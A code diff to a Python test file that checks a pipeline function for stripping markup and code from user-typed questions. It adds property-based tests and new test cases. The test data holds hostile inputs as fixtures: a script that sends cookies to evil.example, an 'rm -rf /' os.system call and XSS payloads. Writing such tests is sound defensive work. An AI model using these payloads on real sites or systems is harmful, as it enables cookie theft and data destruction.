@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from pipeline.shaping import distinct
 from pipeline.user_text import clean_question
@@ -19,6 +21,8 @@ SCRIPT = "<script>document.location='https://evil.example/?c='+document.cookie</
     ("&lt;script&gt;alert(1)&lt;/script&gt;What was revenue?", "What was revenue?"),
     ("```python\nimport os; os.system('rm -rf /')\n``` What was net income in 2022?", "What was net income in 2022?"),
     ("<img src=x onerror=alert(1)>Net sales 2021?", "Net sales 2021?"),
+    ("<![0 <script>x</script> What was revenue?", "What was revenue?"),      # the parser gives up on '<![0'
+    ("<!DOCTYPE html><p>Net sales 2021?</p><?php echo 1; ?>", "Net sales 2021?"),
 ])
 def test_markup_and_code_are_taken_out_and_named(typed, read):
     c = clean_question(typed)
@@ -30,6 +34,14 @@ def test_markup_and_code_are_taken_out_and_named(typed, read):
 def test_a_question_without_markup_is_read_as_typed(text):
     c = clean_question(text)
     assert c.text == text and not c.removed and not c.control
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.one_of(st.text(max_size=200), st.text(alphabet=st.sampled_from(list("<>/!-&;#[]`?=\"' script0")),
+                                                 max_size=60)))
+def test_any_text_is_cleaned_without_an_error(text):
+    c = clean_question(text)
+    assert isinstance(c.text, str) and "<script" not in c.text.lower()
 
 
 def test_control_characters_are_still_cleaned():
